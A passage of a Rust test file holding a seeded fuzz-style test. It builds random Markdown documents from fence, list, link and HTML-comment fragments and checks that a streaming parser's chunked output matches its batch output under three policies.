/// e-mail addresses, markers, links, images, tags, line endings), pushed as the fuzz target
/// pushes ([`mixed_pushes`]): the stream oracle holds. `STREAM_SEARCH` sets how many
/// documents (1,500 by default; 100,000 found nothing more after the fixes it led to).
#[test]
fn open_blocks_stream_like_batch() {
    const OPENERS: &[&str] = &[
        "```\n",
        "~~~\n",
        "```js\n",
        "- ```\n",
        "> ```\n",
        "Text\n```\n",
        "1. <!--\n",
        "- a\n",
        "a | b\n|-|-|\n",
        "Text ",
        "> q\n",
        "# h\n",
    ];
    const PIECES: &[&str] = &[
        "word ",
        "a",
        " ",
        "  ",
        "\n",
        "\n\n",
        ".",
        ":",
        ")",
        "(",
        "]",
        "[",
        "](",
        "]:",
        "*",
        "**",
        "_",
        "~",
        "`",
        "```",
        "    ",
        "- ",
        "1. ",
        "> ",
        "# ",
        "---",
        "|",
        "<",
        "</",
        "<b>",
        "&amp",
        ";",
        "!",
        "![",
        "https://docs.example.com/p",
        "<https://docs.example.com/a>",
        "www.example.com",
        "me@example.com",
        "<me@example.com>",
        "\\",
        "[t](https://x.example/a)",
        "[r]: https://r.example/\n",
        "\t",
        "é",
        "\r\n",
        "\r",
        "<!--",
        "-->",
        "|-|\n",
        "=",
        "[^1]",
    ];
    let count: u64 = std::env::var("STREAM_SEARCH")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(1_500);
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = move |n: u64| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state % n
    };
    for case in 0..count {
        let mut input = OPENERS[next(OPENERS.len() as u64) as usize].to_string();
        for _ in 0..next(60) {
            input.push_str(PIECES[next(PIECES.len() as u64) as usize]);
        }
        let pushes = common::mixed_pushes(input.as_bytes(), &mut next);
        let policy = ["default", "confirm", "escape"][case as usize % 3];
        if let Err(e) = compare_pieces(policy, &input, &pushes) {
            panic!("document {case}: {e}");
        }
    }
}
